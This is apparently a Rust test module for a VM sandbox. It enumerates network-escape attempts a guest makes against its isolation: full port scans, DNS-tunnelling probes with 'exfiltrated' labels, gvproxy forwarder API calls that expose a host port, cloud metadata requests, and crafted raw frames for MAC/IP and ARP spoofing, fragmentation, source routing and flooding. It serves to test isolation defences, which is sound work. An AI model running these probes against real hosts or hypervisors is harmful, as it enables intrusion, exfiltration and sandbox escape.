//! What a guest tries.

use super::world::{ADDRESSES, CANARIES, WITNESS_PORT};
use bottle_core::guard::knock::Knock;
use bottle_core::guard::{GATEWAY_MAC, GUEST_MAC};
use bottle_core::plan::Plan;
use bottle_core::smolfile::GUEST_SOCKET;
use bottle_guest::probe::raw::hex;
use bottle_guest::probe::{Attempt, Question};
use bottle_oracle::frames::Change;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

/// The name that the witness asks the proxy for.
pub const WITNESS_HOST: &str = "witness.test";
/// The witnesses: their questions' names.
pub const WITNESSES: [&str; 2] = ["witness before", "witness after"];

/// The question that goes past the helper. Silence is what most of its frames deserve.
pub const RAW: &str = "raw frames";

/// Types of DNS questions: A, NS, CNAME, NULL, MX, TXT, AAAA, SRV, ANY.
const TYPES: [u16; 9] = [1, 2, 5, 10, 15, 16, 28, 33, 255];

/// Whether every port is tried, or those that a canary or a service has.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Breadth {
    /// Every port of the gateway and the proxy address.
    Every,
    /// A sample.
    Sample,
}

/// Everything that is tried of a guest of this plan.
pub fn all(plan: &Plan, breadth: Breadth, nonce: &str) -> Vec<Question> {
    let mut questions = vec![witness(plan, WITNESSES[0])];
    let mut ask = |id: String, attempt: Attempt| questions.push(Question { id, attempt });
    for (name, address) in [("gateway", plan.subnet.gateway()), ("proxy", plan.subnet.proxy())] {
        let address = IpAddr::V4(address);
        if breadth == Breadth::Every {
            ask(format!("tcp {name} 1-65535"), Attempt::Tcp { address, first: 1, last: u16::MAX });
        } else {
            for (first, last) in
                [(1, 100), (8080, 8080), (8443, 8443), (WITNESS_PORT, WITNESS_PORT), (54_321, 54_321)]
            {
                ask(format!("tcp {name} {first}-{last}"), Attempt::Tcp { address, first, last });
            }
        }
        ask(format!("udp {name}"), Attempt::Udp { address, ports: vec![22, 67, 123, 8080, 54_321] });
    }
    for (name, address, port) in CANARIES {
        let Ok(address) = address.parse::<IpAddr>() else { continue };
        // The guest's own loopback is its own; of the host's it can only try the doors' address.
        if !address.is_loopback() {
            ask(format!("tcp canary {name}"), Attempt::Tcp { address, first: port, last: port });
            ask(format!("udp canary {name}"), Attempt::Udp { address, ports: vec![port] });
        }
    }
    for address in ["fd00:ec2::254", "fe80::1", "ff02::1", "2001:db8::1", "::ffff:192.0.2.10"] {
        let Ok(address) = address.parse::<IpAddr>() else { continue };
        ask(format!("tcp v6 {address}"), Attempt::Tcp { address, first: 80, last: 80 });
    }
    dns(plan, nonce, &mut ask);
    forwarder(plan, &mut ask);
    ask(RAW.to_owned(), raw(plan));
    questions.push(witness(plan, WITNESSES[1]));
    questions
}

fn witness(plan: &Plan, id: &str) -> Question {
    let text = format!(
        "GET http://{WITNESS_HOST}:{WITNESS_PORT}/ HTTP/1.1\r\nHost: {WITNESS_HOST}\r\nConnection: close\r\n\r\n"
    );
    let address = SocketAddr::new(plan.subnet.proxy().into(), plan.doors.pipelock());
    Question { id: id.to_owned(), attempt: Attempt::Say { address, text } }
}

fn dns(plan: &Plan, nonce: &str, ask: &mut impl FnMut(String, Attempt)) {
    let public = ADDRESSES[1].1.parse().unwrap_or(Ipv4Addr::LOCALHOST);
    for (whom, server) in [("gateway", plan.subnet.gateway()), ("public", public)] {
        let server = SocketAddr::new(server.into(), 53);
        for kind in TYPES {
            for tcp in [false, true] {
                let way = if tcp { "tcp" } else { "udp" };
                let name = format!("{way}{kind}.{nonce}.example.com");
                ask(format!("dns {whom} {way} type {kind}"), Attempt::Dns { server, tcp, name, kind });
            }
        }
        let data = "exfiltrated".repeat(5);
        for (what, name) in [
            ("long labels", format!("{data}.{data}.{nonce}.example.com")),
            ("mixed case", "PrOxY.InTeRnAl".to_owned()),
            ("below the proxy", format!("{nonce}.proxy.internal")),
            ("gvproxy's own", "host.containers.internal".to_owned()),
        ] {
            ask(
                format!("dns {whom} {what}"),
                Attempt::Dns { server, tcp: false, name: name.clone(), kind: 1 },
            );
            ask(format!("dns {whom} {what} txt"), Attempt::Dns { server, tcp: false, name, kind: 16 });
        }
    }
}

/// gvproxy's own HTTP interface, which stock gvproxy serves to the guest.
fn forwarder(plan: &Plan, ask: &mut impl FnMut(String, Attempt)) {
    let address = SocketAddr::new(plan.subnet.gateway().into(), 80);
    let expose = r#"{"local":"127.0.0.1:19999","remote":"192.168.127.2:22","protocol":"tcp"}"#;
    for (method, path, body) in [
        ("GET", "/services/forwarder/all", ""),
        ("POST", "/services/forwarder/expose", expose),
        ("POST", "/services/forwarder/unexpose", expose),
        ("GET", "/services/dns/all", ""),
        ("GET", "/leases", ""),
    ] {
        let text = format!(
            "{method} {path} HTTP/1.1\r\nHost: gateway\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        ask(format!("http {path}"), Attempt::Say { address, text });
    }
}

/// Frames that no helper would send: spoofed, tagged, fragmented, broadcast, and lengths that lie.
fn raw(plan: &Plan) -> Attempt {
    let guard = plan.guard();
    let lan: Ipv4Addr = ADDRESSES[0].1.parse().unwrap_or(Ipv4Addr::LOCALHOST);
    let targets = [
        (plan.subnet.proxy(), 8080),
        (lan, 80),
        (Ipv4Addr::new(169, 254, 169, 254), 80),
        (Ipv4Addr::LOCALHOST, 8080),
    ];
    let mut frames = Vec::new();
    for (address, port) in targets {
        for base in [guard.frame(&Knock::Tcp(address, port)), guard.frame(&Knock::Udp(address, port))] {
            let variants: [&[Change]; 10] = [
                &[],
                // Another sender: its MAC, its address.
                &[Change::Byte(11, 0x01)],
                &[Change::Byte(29, 9), Change::Checksum],
                &[Change::Word(26, 0x0a00), Change::Checksum],
                // To everybody.
                &[Change::Word(0, 0xffff), Change::Word(2, 0xffff), Change::Word(4, 0xffff)],
                // A VLAN tag before the packet.
                &[Change::Insert(12, vec![0x81, 0x00, 0x00, 0x05])],
                // Fragments: the first of several, and one from the middle.
                &[Change::Word(20, 0x2000), Change::Checksum],
                &[Change::Word(20, 0x0001), Change::Checksum],
                // Loose source routing.
                &[
                    Change::Byte(14, 0x47),
                    Change::Insert(34, vec![131, 7, 4, 192, 0, 2, 10, 0]),
                    Change::Checksum,
                ],
                // Longer than it says.
                &[Change::Pad(100)],
            ];
            for changes in variants {
                let mut frame = base.clone();
                changes.iter().for_each(|change| change.apply(&mut frame));
                frames.push(frame);
            }
        }
    }
    for address in [plan.subnet.guest(), lan, plan.subnet.proxy()] {
        // ARP in another's name.
        let mut frame = guard.frame(&Knock::Arp(address));
        Change::Byte(31, 254).apply(&mut frame);
        frames.push(frame);
    }
    frames.push(guard.frame(&Knock::Udp(Ipv4Addr::BROADCAST, 67)));
    frames.push(guard.frame(&Knock::Udp(Ipv4Addr::new(224, 0, 0, 251), 5353)));
    frames.push(guard.frame(&Knock::Ping(lan)));
    // A router solicitation of IPv6, cut to its header.
    let mut v6 = [&GATEWAY_MAC[..], &GUEST_MAC, &[0x86, 0xdd, 0x60]].concat();
    v6.resize(60, 0);
    frames.push(v6);
    let mut hexed: Vec<String> = frames.iter().map(|frame| hex(frame)).collect();
    // A flood.
    hexed.extend(std::iter::repeat_n(hexed[1].clone(), 2_000));
    let lies = ["00000000", "ffffffff", "7fffffff00", "0000fdf7aabb", "00000001"];
    Attempt::Raw { socket: GUEST_SOCKET.to_owned(), frames: hexed, bytes: lies.map(str::to_owned).to_vec() }
}
